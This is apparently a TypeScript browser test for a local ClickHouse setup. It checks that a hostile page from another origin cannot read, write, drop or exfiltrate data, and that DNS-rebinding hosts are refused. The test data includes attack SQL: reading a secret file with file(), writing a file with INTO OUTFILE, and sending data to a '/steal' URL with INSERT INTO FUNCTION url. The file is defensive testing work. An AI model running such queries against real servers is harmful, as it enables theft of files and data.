import assert from 'node:assert/strict'
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { rm } from 'node:fs/promises'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type TestContext, test } from 'node:test'
import type { Page } from 'playwright-core'
import { sharedChromium } from '../support/chromium.ts'
import { startTestClickHouse } from '../support/clickhouse.ts'
import { partsOf, runSql } from '../support/fetch-clickhouse.ts'

/* A page of another site, in a real browser, against the ClickHouse of this machine. */

const browser = await sharedChromium()
const reason = typeof browser === 'string' ? browser : undefined

const SECRET = 'the secret of this machine'

const SCRIPT = readFileSync(new URL('hostile-page.js', import.meta.url))

interface Site {
  readonly page: Page
  readonly url: string
  /** Data that the site's server received, and so has left. */
  readonly stolen: string[]
}

/** @param headers of every request of the browser, to every server */
async function openSite(t: TestContext, host: string, headers: Record<string, string> = {}): Promise<Site> {
  const stolen: string[] = []
  const server = createServer((req, res) => {
    if (req.url?.startsWith('/steal')) stolen.push(req.url)
    if (req.url === '/script') res.setHeader('Content-Type', 'text/javascript').end(SCRIPT)
    else res.setHeader('Content-Type', 'text/html').end('<body><script src="/script"></script></body>')
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  t.after(() => server.close())
  const url = `http://${host}:${(server.address() as { port: number }).port}/`
  if (typeof browser === 'string') throw new Error(browser)
  const context = await browser.newContext({ extraHTTPHeaders: headers })
  t.after(() => context.close())
  const page = await context.newPage()
  await page.goto(url)
  return { page, url, stolen }
}

/** Runs a function of the page's script. */
function call<T>(page: Page, name: 'attack' | 'leave', ...args: unknown[]): Promise<T> {
  return page.evaluate<T>(`${name}(${args.map((arg) => JSON.stringify(arg)).join(', ')})`)
}

for (const host of ['127.0.0.1', 'localhost']) {
  test(`a page of ${host} on another port reads, writes and drops nothing`, { skip: reason }, async (t) => {
    const { analystUrl, rows } = await startTestClickHouse(t)
    const { origin } = partsOf(analystUrl)
    const { username, password } = new URL(analystUrl)
    const folder = mkdtempSync(join(tmpdir(), 'ipid-browser-'))
    t.after(() => rm(folder, { recursive: true, force: true }))
    writeFileSync(join(folder, 'secret'), SECRET)
    const written = join(folder, 'written')
    await runSql(analystUrl, 'CREATE TABLE workspace.kept (a String) ENGINE = MergeTree ORDER BY a')
    await runSql(analystUrl, `INSERT INTO workspace.kept VALUES ('${SECRET}')`)

    // As a browser that has kept the password.
    const basic = `Basic ${Buffer.from(`${username}:${password}`).toString('base64')}`
    const site = await openSite(t, host, { Authorization: basic })
    const read = await call<string[]>(site.page, 'attack', origin, [
      'SELECT a FROM workspace.kept',
      `SELECT file('${folder}/secret')`,
      `SELECT 1 INTO OUTFILE '${written}'`,
      `INSERT INTO FUNCTION url('${site.url}steal?', CSV, 'a Int8') SELECT 1`,
      "INSERT INTO workspace.kept VALUES ('of the page')",
      'DROP TABLE workspace.kept',
    ])
    assert.ok(read.length > 0 && read.every((text) => text === ''), read.join('\n'))
    assert.deepEqual(await rows('SELECT a FROM workspace.kept'), [{ a: SECRET }])
    assert.deepEqual(site.stolen, [])
    assert.ok(!existsSync(written))
    await call(site.page, 'leave', `${origin}/?query=${encodeURIComponent('SELECT 1')}`)
    await site.page.waitForURL(`${origin}/**`)
    assert.match(await site.page.content(), /answers no other web page/)
  })
}

test('a browser keeps no password of a typed address', { skip: reason }, async (t) => {
  const { analystUrl } = await startTestClickHouse(t)
  const { origin } = partsOf(analystUrl)
  const { username, password } = new URL(analystUrl)
  const { page } = await openSite(t, '127.0.0.1')
  const named = new URLSearchParams({ user: username, password, query: 'SELECT 6 * 7 AS n FORMAT JSON' })
  assert.match((await (await page.goto(`${origin}/?${named}`))?.text()) ?? '', /"n": 42/)
  await page.goto(`${analystUrl}/?query=SELECT+1`)
  for (const host of [origin, origin.replace('127.0.0.1', 'rebound.localhost')]) {
    assert.equal((await page.goto(`${host}/?query=SELECT+1`))?.ok(), false)
  }
})
